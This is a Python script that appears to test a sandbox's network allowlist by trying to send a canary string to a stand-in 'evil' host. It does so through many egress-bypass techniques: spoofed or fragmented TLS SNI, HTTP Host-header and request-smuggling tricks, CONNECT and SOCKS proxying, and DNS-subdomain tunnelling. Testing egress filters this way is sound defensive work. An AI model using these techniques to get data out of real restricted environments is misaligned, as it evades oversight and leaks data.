# SPDX-License-Identifier: Apache-2.0
"""Ways out of a sandbox that may reach one name only: network_attempts.py ALLOWED_NAME EVIL_NAME EVIL_ADDRESS GATEWAY. Each attempt tries to get
CANARY to the evil host or into a query for its names; what comes of it is seen outside. Prints the number of attempts."""
import socket
import ssl
import struct
import sys

good, evil, address, gateway = sys.argv[1:5]
CANARY = b"canary0123456789"
attempts = []


def attempt(fn):
    attempts.append(fn)
    return fn


def tcp(host, port, data, again=None):
    with socket.create_connection((host, port), 3) as s:
        s.settimeout(2)
        s.sendall(data)
        got = s.recv(65536)
        if again and got:
            s.sendall(again)
            s.recv(65536)


def hello(name, patch=None):
    out = ssl.MemoryBIO()
    c = ssl.create_default_context()
    c.check_hostname = False
    t = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = out.read()
    return patch(data) if patch else data


def cut(data):
    body = data[5:]
    return b"".join(b"\x16\x03\x01" + len(body[i:i + 7]).to_bytes(2, "big") + body[i:i + 7] for i in range(0, len(body), 7))


def request(host, more=b"", target=b"/" + CANARY):
    return b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + more + b"\r\n"


g, e = good.encode(), evil.encode()
for port in (7, 22, 25, 53, 80, 443, 853, 7000, 8080, 8443):
    attempt(lambda port=port: tcp(address, port, CANARY))
    attempt(lambda port=port: tcp(address, port, hello(evil)))
for data in (hello(evil), hello(None), hello(evil.upper()), hello(evil + "."), cut(hello(evil)), hello(good, lambda d: d + hello(evil)),
             hello(good, lambda d: d.replace(g, e[:len(g)].ljust(len(g), b"a"))), hello(address)):
    attempt(lambda data=data: tcp(address, 443, data))
    attempt(lambda data=data: tcp(evil, 443, data))
for data in (request(e), request(address.encode()), request(g, b"Host: " + e + b"\r\n"), request(e + b":80"), request(e + b"."), request(e.upper()),
             request(g, target=b"http://" + e + b"/" + CANARY), request(g + b"@" + e), request(g + b"#" + e), b"CONNECT " + e + b":443 HTTP/1.1\r\nHost: " + e + b"\r\n\r\n",
             b"GET /" + CANARY + b" HTTP/1.0\r\n\r\n", b"GET /" + CANARY + b"\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", request(g, b"\tHost: " + e + b"\r\n"),
             request(g, b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n") + request(e), request(g, b"Content-Length: 5\r\nContent-Length: 6\r\n") + request(e)):
    attempt(lambda data=data: tcp(address, 80, data))
    attempt(lambda data=data: tcp(good, 80, data))
for first in (request(g), request(g, b"Connection: Upgrade\r\nUpgrade: websocket\r\n", b"/refuse"), request(g, b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")):
    attempt(lambda first=first: tcp(good, 80, first, request(e)))
    attempt(lambda first=first: tcp(good, 80, first + request(e)))


def udp(host, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((host, port))
    s.send(data)
    s.recv(2000)


def query(name, kind=1, flags=0x0100, count=1, more=b""):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 0x1234, flags, count, 0, 0, 1 if more else 0) + (wire + struct.pack(">HH", kind, 1)) * count + more


stolen = CANARY.decode() + "." + evil
for port in (7, 53, 123, 443, 853):
    attempt(lambda port=port: udp(address, port, query(stolen)))
for q in [query(stolen, k) for k in (1, 5, 6, 12, 15, 16, 28, 33, 64, 65, 251, 252, 255)] + [
        query(stolen.upper()), query(good + "." + stolen), query(stolen, count=2), query(stolen, flags=0x2900), query(CANARY.decode() + "." + good),
        query(good, more=b"\0\0\x29\x04\xd0\0\0\0\0\0\x14\0\x0a\0\x10" + CANARY)]:
    attempt(lambda q=q: udp(gateway, 53, q))
    attempt(lambda q=q: tcp(gateway, 53, len(q).to_bytes(2, "big") + q))
for port in (54, 80, 443, 1080, 3128):
    attempt(lambda port=port: tcp(gateway, port, b"CONNECT " + e + b":443 HTTP/1.1\r\nHost: " + e + b"\r\n\r\n"))
    attempt(lambda port=port: tcp(gateway, port, b"\5\1\0"))
attempt(lambda: socket.getaddrinfo(stolen, 443))
attempt(lambda: socket.gethostbyname(stolen))

for fn in attempts:
    try:
        fn()
    except (OSError, ValueError, EOFError):
        pass
print(len(attempts))
